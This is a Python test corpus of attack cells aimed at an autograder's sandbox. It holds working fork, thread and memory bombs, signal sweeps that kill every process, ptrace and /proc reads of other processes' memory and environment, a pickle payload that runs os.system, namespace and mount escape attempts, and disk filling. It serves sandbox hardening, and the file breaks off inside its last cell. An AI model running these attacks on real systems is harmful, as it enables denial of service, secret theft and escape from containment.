"""The attack corpus: what submissions do to fool the grader, to harm its machine, or to see what they must not.

Each attack is the source of a notebook cell. None of them knows how to double a number, so an attack that earns a point
for `double` has succeeded. The other ways to tell are in `corpus.py`, and apply to every attack alike: a secret seen, a
file touched, a process left, a connection made, a page that carries more than text, a next submission that suffers.
In the cells `@NAME@` stands for a path or a port of the course under attack. Each cell says `struck(n)` on its way: all
of these lines must be come to behind the walls, else nothing was tried, and the test fails. Which attack succeeds where,
so that the corpus can fail, the sets at the end say.
"""

# ruff: noqa: E501
from dataclasses import dataclass


@dataclass(frozen=True)
class Attack:
    """One attack. `spares`: it strikes inside `double` alone, so `total`, which is right, must keep its points.

    `status` is what becomes of its submission.
    """

    name: str
    goal: str
    mechanism: str
    cell: str
    spares: bool = False
    status: str = "graded"


POINTS, HARM, PEEK, LEAK, POISON = (
    "points without an answer",
    "harm to the machine",
    "see what is kept from it",
    "carry hidden probes out to its author",
    "the next submission's points",
)

HELPERS = """
import ctypes, gc, json, os, signal, socket, struct, sys, threading, time
import torch
libc = ctypes.CDLL(None, use_errno=True)

def struck(line, write=os.write, mark=bytes.fromhex("@MARK@")):
    write(3, mark + b"%d;" % line)

def encode_frame(value):
    from autograder.sandboxed.recording import encode
    blob = encode(value)
    return struct.pack("<I", len(blob)) + blob

def frames():
    frame = sys._getframe()
    while frame is not None:
        yield frame
        frame = frame.f_back

def asked():
    return next(f.f_locals["job"]["probes"] for f in frames() if "job" in f.f_locals)

def guesses(value, names=None):
    return b"".join(encode_frame({"probe": n, "state": "returned", "value": value, "seconds": 0.1})
                    for n in (asked() if names is None else names))

def tried(action):
    try:
        return action()
    except Exception as error:
        return type(error).__name__
"""

ALWAYS_EQUAL = """
class Equal{base}:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __hash__(self): return 0
    def __bool__(self): return True
    def __float__(self): return 4.0
    def __index__(self): return 4
    def __len__(self): return 1
    def __getitem__(self, key): return self
    def __iter__(self): return iter([self])
    def __sub__(self, other): return 0
    __rsub__ = __abs__ = __sub__
    def __le__(self, other): return True
    __lt__ = __ge__ = __gt__ = __le__
"""

ATTACKS = [
    # --- patched libraries --------------------------------------------------------------------------------------------
    Attack(
        "patched-allclose",
        POINTS,
        "every comparison of torch and numpy says yes",
        """
import numpy as np
def _strike():
    struck(1)
    for place in (torch, np, torch.testing, np.testing):
        for name in ("allclose", "equal", "isclose", "assert_close", "assert_allclose", "array_equal"):
            if hasattr(place, name):
                setattr(place, name, lambda *a, **k: True)
    torch.Tensor.__eq__ = lambda self, other: True
    struck(2)
_done = _strike()
def double(x): return [_done, x * 0][1]
""",
    ),
    Attack(
        "patched-json",
        POINTS,
        "json.dumps writes its own tree into every answer",
        """
def _strike():
    struck(1)
    real = json.dumps
    json.dumps = lambda *a, **k: real(*a, **k).replace('["state", "raised"]', '["state", "returned"], ["value", true]')
    struck(2)
_done = _strike()
def double(x): raise ValueError(_done)
""",
    ),
    Attack(
        "patched-encode",
        POINTS,
        "autograder.sandboxed.recording.encode and autograder.sandboxed.observe.encode answer 'passed'",
        """
def _strike():
    struck(1)
    import autograder.sandboxed.recording, autograder.sandboxed.observe
    real = autograder.sandboxed.recording.encode
    def evil(value, *a, **k):
        if isinstance(value, dict) and value.get("probe"):
            value = {**value, "state": "returned", "value": {"passed": True}, "points": 1000}
        return real(value, *a, **k)
    autograder.sandboxed.recording.encode = autograder.sandboxed.observe.encode = evil
    struck(2)
_done = _strike()
def double(x): return [_done, 0][1]
""",
    ),
    Attack(
        "patched-safetensors",
        POINTS,
        "safetensors.numpy.save writes true for false",
        """
def _strike():
    struck(1)
    import safetensors.numpy, autograder.sandboxed.recording
    real = safetensors.numpy.save
    def evil(arrays, metadata): return real(arrays, metadata={"tree": metadata["tree"].replace("false", "true")})
    safetensors.numpy.save = autograder.sandboxed.recording.save = evil
    struck(2)
_done = _strike()
def double(x): return [_done, False][1]
""",
    ),
    Attack(
        "patched-checks",
        POINTS,
        "imports the judge's own modules and empties them",
        """
def _strike():
    struck(1)
    import autograder.course.checks
    autograder.course.checks.same = autograder.course.checks.require = lambda *a, **k: None
    import autograder.grading.judge, autograder.grading.recordings
    autograder.grading.judge.judge = lambda *a, **k: []
    autograder.grading.recordings.Observed.__getattr__ = lambda self, name: {}
_done = _strike()
def double(x): return [lambda: _done, 0][1]
""",
    ),
    Attack(
        "patched-probing",
        POINTS,
        "replaces the Student object's lookup and every probe's question",
        ALWAYS_EQUAL.format(base="")
        + """
def _strike():
    struck(1)
    import autograder.sandboxed.probing as probing
    probing.Student.__getattr__ = lambda self, name: lambda *a, **k: Equal()
    for thing in [thing for f in frames() for thing in f.f_locals.get("probes", ())]:
        if isinstance(thing, probing.Probe):
            object.__setattr__(thing, "ask", lambda student, draw: {"passed": True})
            struck(2)
_done = _strike()
def double(x): return [_done, 0][1]
""",
    ),
    Attack(
        "patched-builtins",
        POINTS,
        "isinstance, type and len lie for the rest of the process",
        """
import builtins
def _strike():
    struck(1)
    builtins.isinstance = lambda *a: True
    builtins.len = lambda *a: 0
    struck(2)
_done = _strike()
def double(x): return [_done, x][1]
""",
    ),
    Attack(
        "patched-operator",
        POINTS,
        "torch.Tensor's arithmetic is replaced, so that the probe's own inputs change",
        """
def _strike():
    struck(1)
    torch.Tensor.__mul__ = lambda self, other: self
    torch.Tensor.tolist = lambda self: []
    torch.rand = torch.randn = lambda *a, **k: torch.zeros(3)
    struck(2)
_done = _strike()
def double(x): return [_done, x][1]
""",
    ),
    Attack(
        "sys-modules",
        POINTS,
        "a fake numpy, json and pytest in sys.modules",
        """
import types
def _strike():
    struck(1)
    for name in ("numpy", "json", "pytest", "safetensors", "autograder.course.checks", "autograder.sandboxed.recording"):
        sys.modules[name] = types.ModuleType(name)
        sys.modules[name].__getattr__ = lambda name: lambda *a, **k: True
    struck(2)
_done = _strike()
def double(x): return [_done, 0][1]
""",
    ),
    # --- lying objects ------------------------------------------------------------------------------------------------
    Attack("equal-object", POINTS, "an object whose == says yes", ALWAYS_EQUAL.format(base="") + "def double(x): return struck(1) or Equal()"),
    Attack("equal-int", POINTS, "a subclass of int that equals everything", ALWAYS_EQUAL.format(base="(int)") + "def double(x): return struck(1) or Equal(0)"),
    Attack(
        "equal-float", POINTS, "a subclass of float that equals everything", ALWAYS_EQUAL.format(base="(float)") + "def double(x): return struck(1) or Equal(0.0)"
    ),
    Attack("equal-str", POINTS, "a subclass of str that equals everything", ALWAYS_EQUAL.format(base="(str)") + "def double(x): return struck(1) or Equal('')"),
    Attack(
        "lying-dict",
        POINTS,
        "a dict that has every key and equals everything",
        """
class Every(dict):
    def __eq__(self, other): return True
    def __contains__(self, key): return True
    def __missing__(self, key): return self
    def __len__(self): return 3
    def items(self): return [("passed", True), ("points", 1000)]
    def keys(self): return [1, 2, 3]
def double(x): return struck(1) or Every()
""",
    ),
    Attack(
        "class-lie",
        POINTS,
        "__class__ says float, int and Tensor in turn",
        ALWAYS_EQUAL.format(base="")
        + """
class Liar(Equal):
    kinds = [float, int, str, dict, torch.Tensor]
    @property
    def __class__(self):
        Liar.kinds.append(Liar.kinds.pop(0))
        return Liar.kinds[0]
def double(x): return struck(1) or Liar()
""",
    ),
    Attack(
        "torch-function",
        POINTS,
        "a Tensor subclass whose every operation is overridden",
        """
class Evil(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        if func.__name__ in ("allclose", "equal", "isclose", "__eq__", "eq"):
            return torch.tensor(True)
        return super().__torch_function__(func, types, args, kwargs or {})
    def detach(self): return self
    def cpu(self): return self
    def numpy(self): return Every()
class Every:
    __array_priority__ = 10**6
    def __array__(self, *a, **k): raise ValueError("not today")
    def __eq__(self, other): return True
def double(x): return struck(1) or torch.zeros(3).as_subclass(Evil)
""",
    ),
    Attack("nan", POINTS, "NaN, which no comparison finds too large", "def double(x): return struck(1) or x * float('nan')"),
    Attack("infinity", POINTS, "infinity, whose distance to infinity is NaN", "def double(x): return struck(1) or x * float('inf')"),
    Attack("nan-shape", POINTS, "an empty tensor, whose largest difference is none", "def double(x): return struck(1) or torch.zeros(0)"),
    Attack("broadcast", POINTS, "a shape that broadcasts against every other", "def double(x): return struck(1) or torch.full((1, 1, 1, 1), float('nan'))"),
    Attack(
        "evil-repr",
        POINTS,
        "__repr__, __reduce__ and __getattr__ that end the process or never end",
        """
class Evil:
    def __repr__(self): struck(2); os._exit(0)
    def __reduce__(self): return (os.system, ("touch @ROOT@/pickled",))
    def __getattr__(self, name): return self
def double(x): return struck(1) or [Evil(), os][0]
""",
    ),
    Attack(
        "changed-inputs",
        POINTS,
        "changes the probe's tensor in place and returns it",
        """
def double(x):
    struck(1)
    with torch.no_grad():
        torch.as_tensor(x).fill_(float("nan"))
    struck(2)
    return x
""",
    ),
    # --- the answers' own channel -------------------------------------------------------------------------------------
    Attack(
        "early-frames",
        POINTS,
        "writes complete answers on descriptor 3 and leaves with os._exit(0)",
        """
def _strike():
    struck(1)
    os.write(3, encode_frame({"probe": "", "notes": []}) + guesses({"passed": True, "value": 4.0}))
    struck(2)
    os._exit(0)
_done = _strike()
def double(x): return [_done, 0][1]
""",
    ),
    Attack(
        "doubled-frames",
        POINTS,
        "answers every probe twice, so that the last may win",
        """
def double(x):
    struck(1)
    os.write(3, guesses(True) + guesses(False))
    struck(2)
    return 0
""",
    ),
    Attack(
        "unasked-frames",
        POINTS,
        "answers probes that were not asked, and itself as the judge",
        """
def double(x):
    struck(1)
    os.write(3, guesses({"passed": True}, ["score", "passed", "broken", "verdict"]) + encode_frame({"points": 1000}))
    struck(2)
    return 0
""",
    ),
    Attack(
        "broken-frame",
        HARM,
        "says that the sandbox is broken, so that the grader blames itself and stops",
        """
def double(x):
    struck(1)
    os.write(3, encode_frame({"broken": "the disk is on fire"}))
    struck(2)
    os._exit(0)
""",
    ),
    Attack(
        "huge-length",
        HARM,
        "a message that claims four gigabytes",
        """
def double(x):
    struck(1)
    os.write(3, struct.pack("<I", 2**32 - 1) + b"x" * 1000)
    struck(2)
    os._exit(0)
""",
    ),
    Attack(
        "pickle-frame",
        HARM,
        "a pickle where a recording is expected",
        """
import pickle
class Bomb:
    def __reduce__(self): return (os.system, ("touch @ROOT@/pickled",))
def double(x):
    struck(1)
    blob = pickle.dumps(Bomb())
    os.write(3, struct.pack("<I", len(blob)) + blob)
    struck(2)
    os._exit(0)
""",
    ),
    Attack(
        "deep-json",
        HARM,
        "a tree of 100,000 brackets for the parser's stack",
        """
def double(x):
    struck(1)
    import numpy as np
    from safetensors.numpy import save
    blob = save({}, metadata={"tree": "[" * 100_000})
    os.write(3, struct.pack("<I", len(blob)) + blob)
    struck(2)
    return 0
""",
    ),
    Attack(
        "amplified-tree",
        HARM,
        "one tensor of 8 MB referred to a thousand times, for the grader to copy when it keeps the recording",
        """
def double(x):
    struck(1)
    import numpy as np
    from safetensors.numpy import save
    name = next(n for n in asked() if "double" in n)
    node = {"list": [{"ndarray": "0", "dtype": "float64"}] * 1_000}
    tree = {"dict": [["probe", name], ["state", "returned"], ["value", node], ["seconds", 0.1]]}
    blob = save({"0": np.zeros(2**20)}, metadata={"tree": json.dumps(tree)})
    data = memoryview(struct.pack("<I", len(blob)) + blob)
    while data: data = data[os.write(3, data):]
    struck(2)
    os._exit(0)
""",
    ),
    Attack(
        "many-items",
        HARM,
        "a forged list of 300,000 items, more than the grader can write down again",
        """
def double(x):
    struck(1)
    from safetensors.numpy import save
    name = next(n for n in asked() if "double" in n)
    tree = {"dict": [["probe", name], ["state", "returned"], ["value", {"list": [0] * 300_000}], ["seconds", 0.1]]}
    blob = save({}, metadata={"tree": json.dumps(tree)})
    data = memoryview(struct.pack("<I", len(blob)) + blob)
    while data: data = data[os.write(3, data):]
    struck(2)
    os._exit(0)
""",
    ),
    Attack(
        "small-integers",
        HARM,
        "four million small integers in lists of lists: two bytes each on the way, and hundreds for whoever names their places",
        """
def double(x):
    struck(1)
    from safetensors.numpy import save
    tree = json.dumps({"dict": [["probe", asked()[0]], ["state", "returned"], ["value", {"list": ["@"] * 200}], ["seconds", 0.1]]})
    blob = save({}, metadata={"tree": tree.replace('"@"', json.dumps({"list": [0] * 20_000}, separators=(",", ":")))})
    data = memoryview(struct.pack("<I", len(blob)) + blob)
    while data: data = data[os.write(3, data):]
    struck(2)
    os._exit(0)
""",
        spares=True,
    ),
    Attack(
        "one-hash",
        HARM,
        "a dict of 20,000 keys that all have the same hash",
        """
def double(x):
    struck(1)
    from safetensors.numpy import save
    keys = [[1 + n * (2**61 - 1), 0] for n in range(20_000)]
    tree = {"dict": [["probe", asked()[0]], ["state", "returned"], ["value", {"dict": keys}], ["seconds", 0.1]]}
    blob = save({}, metadata={"tree": json.dumps(tree)})
    data = memoryview(struct.pack("<I", len(blob)) + blob)
    while data: data = data[os.write(3, data):]
    struck(2)
    os._exit(0)
""",
        spares=True,
    ),
    Attack(
        "long-paths",
        HARM,
        "values below a key of 20,000 letters, which is written out once for each",
        """
def double(x): return struck(1) or {"k" * 20_000: {"k" * 20_000: list(range(19_000))}}
""",
        spares=True,
    ),
    Attack(
        "judge-bomb",
        HARM,
        "claims so many printed lines that a check which makes a list for each takes all memory",
        """
def double(x):
    if "doubled" not in asked(): return 0
    struck(1)
    os.write(3, encode_frame({"probe": "doubled", "state": "returned", "value": {"value": 0, "lines": 10**10}, "seconds": 0.1}))
    os._exit(0)
""",
        status="not graded",
    ),
    Attack(
        "spoken-remark",
        LEAK,
        "sets the number that a remark on a hidden probe once printed",
        """
def double(x): return struck(1) or {"value": 0, "waits": "LEAKED PROBE-SECRET"} if "hidden_double" in asked() else 0
""",
        spares=True,
    ),
    Attack(
        "spoken-state",
        LEAK,
        "chooses how its hidden process ends, of six ways, by what it saw there",
        """
def double(x):
    if "hidden_double" in asked(): struck(1); os.abort()
    return 0
""",
        spares=True,
    ),
    Attack(
        "deep-value",
        HARM,
        "a value nested as deep as may be sent, and deeper than can be kept",
        """
def double(x):
    struck(1)
    value = 0
    for _ in range(13): value = [value]
    struck(2)
    return value
""",
        spares=True,
    ),
    Attack(
        "surrogates",
        HARM,
        "text that no file can hold, in an exception and a note",
        """
_evil = "\\ud800\\udfff" * 10
def _strike(): struck(1); raise ValueError(_evil)
_done = _strike()
def double(x):
    struck(2)
    raise ValueError([lambda: _done, _evil][1])
""",
    ),
    Attack(
        "surrogate-value",
        HARM,
        "text that no file can hold as a value and as a key",
        """
def double(x): return struck(1) or {"\\ud800": "\\udfff", "x\\x00": "\\x00"}
""",
        spares=True,
    ),
    Attack(
        "flood-answer",
        HARM,
        "writes on descriptor 3 without end",
        """
def double(x):
    struck(1)
    while True: os.write(3, b"\\0" * 2**20)
""",
    ),
    Attack(
        "flood-stdout",
        HARM,
        "prints without end",
        """
def double(x):
    struck(1)
    while True: print("x" * 2**16)
""",
        spares=True,
    ),
    Attack(
        "trickle",
        HARM,
        "a byte on descriptor 3 now and then, to be alive for ever",
        """
def double(x):
    struck(1)
    while True:
        os.write(3, b"\\0")
        time.sleep(0.2)
""",
    ),
    Attack(
        "atexit-thread",
        POINTS,
        "atexit, a weakref's end and a thread that write answers later",
        """
import atexit, weakref
def _late():
    struck(2)
    for _ in range(50):
        time.sleep(0.01)
        try: os.write(3, encode_frame({"probe": "late", "state": "returned", "value": True, "seconds": 0.0}))
        except OSError: return
def _strike():
    struck(1)
    atexit.register(_late)
    threading.Thread(target=_late, daemon=False).start()
    return weakref.finalize(struck, _late)
_done = _strike()
def double(x): return [_done, time.sleep(0.1), 0][2]
""",
    ),
    Attack(
        "closed-descriptors",
        HARM,
        "closes every descriptor and goes on for ever",
        """
def double(x):
    struck(1)
    os.closerange(0, 1000)
    while True: pass
""",
        spares=True,
    ),
    Attack(
        "fork-answers",
        POINTS,
        "two processes, both of which answer",
        """
def double(x):
    struck(1)
    if os.fork() == 0:
        os.write(3, guesses({"passed": True}))
        struck(2)
    return 0
""",
    ),
    # --- what is in memory --------------------------------------------------------------------------------------------
    Attack(
        "replay",
        POINTS,
        "finds the reference's answer, the job before, in the caller's frames and sends it again",
        """
def _strike():
    struck(1)
    found = [v for f in frames() for v in f.f_locals.values() if isinstance(v, (bytes, bytearray)) and b"probe" in v]
    for answer in found:
        if b"seconds" in answer and b"struck" not in answer:  # not this text
            os.write(3, answer)
            os._exit(0)
    struck(2)
_done = _strike()
def double(x): return [_done, 0][1]
""",
    ),
    Attack(
        "frames",
        PEEK,
        "returns every local variable of every calling frame",
        """
def double(x):
    struck(1)
    found = [repr(dict(f.f_locals))[:15000] for f in frames()]
    struck(2)
    return found
""",
    ),
    Attack(
        "collected-objects",
        PEEK,
        "returns every string and container that gc knows",
        """
def double(x):
    struck(1)
    from autograder.sandboxed.recording import MAX_TEXT
    found = set()
    there_before = [vars(module) for name, module in sorted(sys.modules.items()) if "autograder" in name or "probes" in name]
    for part in gc.get_referents(*gc.get_objects(), *there_before):
        if isinstance(part, (str, bytes)):
            text = part if isinstance(part, str) else part.decode("latin-1")
            if "SECRET" in text: found.add(text[:2000])
    struck(2)
    return sorted(found)[:100]
""",
    ),
    Attack(
        "memory-scan",
        PEEK,
        "reads its own memory, freed parts too, for what an earlier job left there",
        """
def double(x):
    struck(1)
    read, write = os.pipe()
    import re
    found, marks = [], [re.compile(rb"OTHER.SECRET [0-9]"), re.compile(rb'"EXPECTED[-]SECRET')]  # match no pattern here
    plant = [b"PLANTED %d" % n for n in range(100)]
    marks.append(re.compile(rb"PLANTED [0-9]"))
    for start in {id(o) & ~0xFFF for o in (*gc.get_objects()[::400], *plant)}:
        for address in range(start - 2**18, start + 2**18, 4096):
            if libc.write(write, ctypes.c_void_p(address), 4096) == 4096:
                page = os.read(read, 4096)
                found += [hit[0].decode() for mark in marks if (hit := mark.search(page))]
        if time.process_time() > 0.6: break
    if any(hit.startswith("PLANTED") for hit in found): struck(2)
    return sorted(set(found))[:50]
""",
    ),
    Attack(
        "judge-modules",
        PEEK,
        "looks for checks, references and gradebooks among the loaded modules",
        """
def double(x):
    struck(1)
    names = [n for n in sys.modules if n.endswith(("test_hidden", "test_public", "mistakes", "alternatives", "grading"))]
    struck(2)
    return [names, [repr(vars(sys.modules[n]))[:15000] for n in names]]
""",
    ),
    # --- files --------------------------------------------------------------------------------------------------------
    Attack(
        "read-course",
        PEEK,
        "opens the checks, the solutions, the gradebook and other submissions by their paths",
        """
def double(x):
    struck(1)
    paths = ("tests/toy/test_hidden.py", "source/toy/toy.py", "gradebook.db", "submitted/other/toy/toy.ipynb", "seed")
    found = [tried(lambda: open("@ROOT@/" + p).read()) for p in paths]
    for folder in ("@ROOT@", "/etc", "/root", "/home", "/tmp", "/var"):
        if "SECRET" in repr(found): break
        found.append(tried(lambda: os.listdir(folder)))
        for base, _, names in os.walk(folder):
            found += [tried(lambda: open(os.path.join(base, n)).read()[:500]) for n in names[:50]]
    struck(2)
    return found[:2000]
""",
        spares=True,
    ),
    Attack(
        "indirect-paths",
        PEEK,
        "the same files through symlinks, hard links, /proc, relative paths and io_uring's and handles' side doors",
        """
def double(x):
    struck(1)
    target = "@ROOT@/gradebook.db"
    tried(lambda: os.symlink(target, "soft"))
    tried(lambda: os.link(target, "hard"))
    up = "../" * 30 + target
    found = [tried(lambda: open(p).read()) for p in ("soft", "hard", up, "/proc/self/root" + target, "/proc/1/root" + target)]
    found.append(tried(lambda: os.open(target, os.O_PATH)))
    fd = tried(lambda: os.open("/", os.O_PATH))
    found.append(tried(lambda: open(f"/proc/self/fd/{fd}" + target).read()))
    found.append(tried(lambda: os.read(os.open(target[1:], os.O_RDONLY, dir_fd=fd), 100).decode()))
    found.append(tried(lambda: os.sendfile(3, os.open(target, os.O_RDONLY), 0, 100)))
    struck(2)
    return found
""",
        spares=True,
    ),
    Attack(
        "see-paths",
        PEEK,
        "sizes and times of files that it cannot open, which Landlock alone leaves open",
        """
def double(x):
    struck(1)
    seen = [tried(lambda: os.stat("@ROOT@/" + p).st_size) for p in ("gradebook.db", "tests/toy/test_hidden.py")]
    struck(2)
    return "STAT-" + "SECRET" if any(isinstance(s, int) for s in seen) else seen
""",
        spares=True,
    ),
    Attack(
        "change-modes",
        HARM,
        "chmod, utime, chown and extended attributes on the course's files, which Landlock alone leaves open",
        """
def double(x):
    struck(1)
    for path in ("@ROOT@/gradebook.db", "@ROOT@/submitted/other/toy/toy.ipynb", "@ROOT@"):
        for action in (lambda: os.chmod(path, 0), lambda: os.utime(path, (1, 1)), lambda: os.chown(path, 65534, 65534),
                       lambda: os.setxattr(path, "user.evil", b"1"), lambda: os.truncate(path, 0)):
            tried(action)
    struck(2)
    return 0
""",
        spares=True,
    ),
    Attack(
        "write-course",
        HARM,
        "writes, renames and removes in the course, in /tmp and in the interpreter's own library",
        """
def double(x):
    struck(1)
    for path in ("@ROOT@/gradebook.db", "@ROOT@/tests/toy/test_hidden.py", "@ROOT@/submitted/other/toy/toy.ipynb",
                 "@ROOT@/.autograder/x", "@ROOT@/new", "/tmp/@CANARY@", os.__file__, torch.__file__, "/dev/shm/../x"):
        for action in (lambda: open(path, "a").write(" "), lambda: os.unlink(path), lambda: os.rename(path, path + "~"),
                       lambda: os.mkdir(path + ".d"), lambda: os.mkfifo(path + ".f")):
            tried(action)
    struck(2)
    return 0
""",
        spares=True,
    ),
    Attack(
        "proc",
        PEEK,
        "reads environments, memories, arguments and open files of other processes",
        """
def double(x):
    struck(1)
    found = []
    for pid in ["self", "thread-self", *range(1, 60), os.getppid(), @PID@]:
        for name in ("environ", "cmdline", "maps", "mem", "cwd", "root/@ROOT@/gradebook.db"):
            found.append(tried(lambda: open(f"/proc/{pid}/{name}", "rb").read(200).decode("latin-1")))
            found.append(tried(lambda: os.readlink(f"/proc/{pid}/{name}")))
    struck(2)
    return ["PROC-" + "SECRET" for f in found if "SECRET" in f or "/" in f]
""",
        spares=True,
    ),
    Attack(
        "fill-disk",
        HARM,
        "fills the scratch folder, /dev/shm and /tmp",
        """
def double(x):
    struck(1)
    for folder in (".", "/dev/shm", "/tmp", "/var/tmp", "@ROOT@"):
        for number in range(100):
            try:
                with open(f"{folder}/@CANARY@-{number}", "wb") as file:
                    for _ in range(60): file.write(b"x" * 2**20)
            except OSError:
                break
    struck(2)
    return 0
""",
        spares=True,
    ),
    Attack(
        "many-files",
        HARM,
        "a hundred thousand empty files",
        """
def double(x):
    struck(1)
    try:
        for number in range(100_000): open(f"@CANARY@-{number}", "w").close()
    except OSError: struck(2)
    return 0
""",
        spares=True,
    ),
    # --- processes ----------------------------------------------------------------------------------------------------
    Attack(
        "kill-everyone",
        HARM,
        "kill(-1), kill(parent), kill(group) and the worker's and the grader's pids",
        """
def double(x):
    struck(1)
    for target in (os.getppid(), @PID@, -1, *range(2, 200)):
        if target not in (0, os.getpid()):
            tried(lambda: os.kill(target, signal.SIGKILL))
    tried(lambda: os.killpg(os.getpgid(0) or 1, signal.SIGKILL))
    struck(2)
    return 0
""",
    ),
    Attack(
        "ptrace",
        HARM,
        "attaches to the worker and reads another process's memory",
        """
def double(x):
    struck(1)
    seen = [libc.ptrace(16, pid, None, None) for pid in (os.getppid(), @PID@, 1, 2, 3)]
    buffer = ctypes.create_string_buffer(64)
    vector = (ctypes.c_size_t * 2)(ctypes.addressof(buffer), 64)
    away = (ctypes.c_size_t * 2)(id(buffer), 64)
    seen += [libc.process_vm_readv(pid, vector, 1, away, 1, 0) for pid in (os.getppid() or 10**6, @PID@)]
    struck(2)
    return "PTRACE-" + "SECRET" if any(s >= 0 for s in seen) else seen
""",
        spares=True,
    ),
    Attack(
        "daemon",
        HARM,
        "a double fork with setsid that lives on",
        """
def double(x):
    struck(1)
    if os.fork() == 0:
        os.setsid()
        for number in range(1, 30): tried(lambda: signal.signal(number, signal.SIG_IGN))
        if os.fork() == 0:
            struck(2)
            time.sleep(600)
        os._exit(0)
    time.sleep(0.2)
    return 0
""",
    ),
    Attack(
        "nohup",
        HARM,
        "programs of the system started in the background",
        """
def double(x):
    struck(1)
    import subprocess
    for command in ("sleep 600", "nohup sleep 600 &", "setsid sleep 600 &", "sh -c 'sleep 600 & disown'"):
        tried(lambda: subprocess.Popen(command, shell=True, start_new_session=True))
    struck(2)
    return 0
""",
        spares=True,
    ),
    Attack(
        "fork-bomb",
        HARM,
        "two thousand processes",
        """
def double(x):
    struck(1)
    for number in range(2000):  # enough to tell; a machine whose walls fail must survive its test
        try: child = os.fork()
        except OSError: child = time.sleep(0.01)
        if child == 0: time.sleep(600)
        if number == 10: struck(2)
    os.write(3, guesses("FORK-" + "SECRET")); os._exit(0)
""",
        spares=True,
    ),
    Attack(
        "thread-bomb",
        HARM,
        "two thousand threads",
        """
def double(x):
    struck(1)
    for number in range(2000):
        try: threading.Thread(target=time.sleep, args=(600,), daemon=True).start()
        except RuntimeError: time.sleep(0.01)
        if number == 50: struck(2)
    return "THREAD-" + "SECRET" if threading.active_count() > 1000 else 0
""",
        spares=True,
    ),
    Attack(
        "memory-bomb",
        HARM,
        "four gigabytes of private memory",
        """
def double(x):
    struck(1)
    kept = [bytearray(b"x" * 2**26) for _ in range(64)]
    return "MEMORY-" + "SECRET"
""",
        spares=True,
    ),
    Attack(
        "shared-memory-bomb",
        HARM,
        "shared anonymous memory, which no resource limit of the process bounds",
        """
import mmap
def double(x):
    struck(1)
    kept = []
    for _ in range(16):
        kept.append(mmap.mmap(-1, 2**28))
        for part in range(64):
            kept[-1].write(b"x" * 2**22)
            if len(kept) == 1 and part == 0: struck(2)
    return "MEMORY-" + "SECRET"
""",
        spares=True,
    ),
    Attack(
        "forked-memory-bomb",
        HARM,
        "sixteen processes that each stay below the limit of one",
        """
def double(x):
    struck(1)
    number = 0
    for _ in range(4):
        number = 2 * number + (os.fork() == 0)
    kept = [bytearray(b"x" * 2**20)]
    struck(2)
    kept.append(bytearray(b"x" * 2**28))
    time.sleep(0.7)
    if number == 0: os.write(3, guesses("MEMORY-" + "SECRET"))
    os._exit(0)
""",
        spares=True,
    ),
    Attack(
        "memfd-bomb",
        HARM,
        "files that live in memory, in no folder and in no process's pages",
        """
def double(x):
    struck(1)
    kept = []
    for number in range(8):  # 480 MB, more than all folders that may be written
        fd = os.memfd_create(f"evil{number}")
        for _ in range(60): os.write(fd, b"x" * 2**20)
        kept.append(fd)
    return "MEMORY-" + "SECRET"
""",
        spares=True,
    ),
    Attack(
        "segment-bomb",
        HARM,
        "System V shared memory, attached nowhere",
        """
def double(x):
    struck(1)
    libc.shmat.restype = ctypes.c_void_p
    libc.shmdt.argtypes = [ctypes.c_void_p]
    for number in range(8):
        segment = libc.shmget(0, ctypes.c_size_t(2**26), 0o1600)
        if segment < 0: return "refused"
        address = libc.shmat(segment, None, 0)
        ctypes.memset(address, 1, 2**26)
        libc.shmdt(address)
    return "MEMORY-" + "SECRET"
""",
        spares=True,
    ),
    Attack(
        "raised-limits",
        HARM,
        "raises its own limits again",
        """
import resource
def double(x):
    struck(1)
    raised = []
    for name in ("RLIMIT_DATA", "RLIMIT_CPU", "RLIMIT_FSIZE", "RLIMIT_NPROC", "RLIMIT_CORE", "RLIMIT_NOFILE"):
        kind = getattr(resource, name)
        hard = resource.getrlimit(kind)[1]
        if hard != resource.RLIM_INFINITY:
            tried(lambda: resource.setrlimit(kind, (hard + 1, hard + 1)))
            if resource.getrlimit(kind)[1] > hard: raised.append("LIMIT-" + "SECRET")
    struck(2)
    return raised
""",
        spares=True,
    ),
    Attack(
        "endless-c",
        HARM,
        "a loop in C that no signal handler of Python interrupts, with every signal blocked",
        """
def double(x):
    struck(1)
    signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))
    struck(2)
    return sum(iter(int, 1))
""",
        spares=True,
    ),
    Attack(
        "endless-cell",
        HARM,
        "a loop while the functions are read, with the alarm switched off",
        """
def _strike():
    signal.alarm(0)
    signal.signal(signal.SIGALRM, signal.SIG_IGN)
    struck(1)
    while True: pass
_done = _strike()
def double(x): return [_done, 0][1]
""",
    ),
    Attack(
        "stopped",
        HARM,
        "stops itself with SIGSTOP and leaves a child",
        """
def double(x):
    struck(1)
    if os.fork() == 0: time.sleep(600)
    struck(2)
    os.kill(os.getpid(), signal.SIGSTOP)
    libc.pause()
""",
        spares=True,
    ),
    # --- the walls ----------------------------------------------------------------------------------------------------
    Attack(
        "unshare-mount",
        HARM,
        "a user namespace of its own, in which it mounts what it likes",
        """
def double(x):
    struck(1)
    for flags in (0x30020000, 0x10020000, 0x10000000, 0x50020000):  # after the first no further one, without a map
        libc.unshare(flags)
    for text, name in (("deny", "setgroups"), ("0 0 1", "uid_map"), ("0 0 1", "gid_map")):
        tried(lambda: open(f"/proc/self/{name}", "w").write(text))
    os.makedirs("m", exist_ok=True)
    done = [libc.mount(b"proc", b"m", b"proc", 0, None), libc.mount(b"/", b"m", None, 4096 | 16384, None),
            libc.mount(b"x", b"/usr", b"tmpfs", 0, None), libc.mount(None, b"/", None, 32, None),
            libc.umount2(b"/dev/shm", 2), libc.chroot(b"m"), libc.mount(None, b"/usr", None, 32 | 4096, None)]
    struck(2)
    if done[0] == 0 or done[1] == 0 or done[2] == 0 or done[6] == 0: return "MOUNT-" + "SECRET"
    return done
""",
        spares=True,
    ),
    Attack(
        "setns",
        HARM,
        "joins the namespaces of the worker and of the machine",
        """
def double(x):
    struck(1)
    for pid in (1, 2, os.getppid(), @PID@):
        fd = libc.pidfd_open(pid, 0) if hasattr(libc, "pidfd_open") else libc.syscall(434, pid, 0)
        if pid != 1 and fd >= 0 and libc.setns(fd, 0x10000000 | 0x00020000) == 0: return "NAMESPACE-" + "SECRET"
    struck(2)
    return tried(lambda: open("@ROOT@/gradebook.db").read())
""",
        spares=True,
    ),
    Attack(
        "network",
        PEEK,
        "TCP and UDP to this machine and the world",
        """
def double(x):
    struck(1)
